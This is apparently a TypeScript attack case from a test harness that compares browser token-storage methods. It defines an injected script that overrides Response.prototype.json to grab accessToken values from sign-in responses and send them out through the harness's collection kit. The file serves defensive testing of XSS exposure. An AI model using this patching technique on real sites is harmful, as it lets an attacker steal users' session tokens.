// Threat: a script is injected before somebody signs in, and replaces `Response.prototype.json`. The attacker has one hole in the page's
// HTML. Expected: every client that reads a token from an answer with json() gives it away.
import type { Attack } from '../attack.ts'
import { told } from '../scene.ts'
import { awaitLoot, judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = (kit) => {
  const original = Response.prototype.json
  Response.prototype.json = async function patched(): Promise<unknown> {
    const body: unknown = await original.call(this)
    const { accessToken } = Object(body) as { accessToken?: string }
    if (accessToken !== undefined) {
      kit.take('token', accessToken)
      void kit.flush()
    }
    return body
  }
}

export const patchJson: Attack = {
  name: 'patch-json',
  group: 'script, late',
  title: 'Replaces Response.prototype.json and waits for a sign-in',
  what: 'The script puts its own function in the place of json() and reads the answer of the sign-in as the page reads it.',
  why: 'A token comes to the page as JSON. Whoever reads the JSON reads the token, wherever it is kept afterwards.',
  stops: 'A token that never comes to the page (a cookie), or a script that may not run.',
  script: { when: 'late', payload: script },
  control: 'local-storage',
  succeedsOn: ['local-storage', 'session-storage', 'readable-cookie', 'variable', 'hallpass'],
  async run(scene) {
    await scene.injectLate(script)
    const page = await scene.open()
    await told(page, 'ready')
    await readBook(page)
    const installed = await scriptReport(scene)
    await scene.signIn(page)
    const report = installed.ran ? { ...(await awaitLoot(scene, 'token')), ran: true } : installed
    return judgeToken(scene, page, report, 'saw no token in any answer')
  },
}
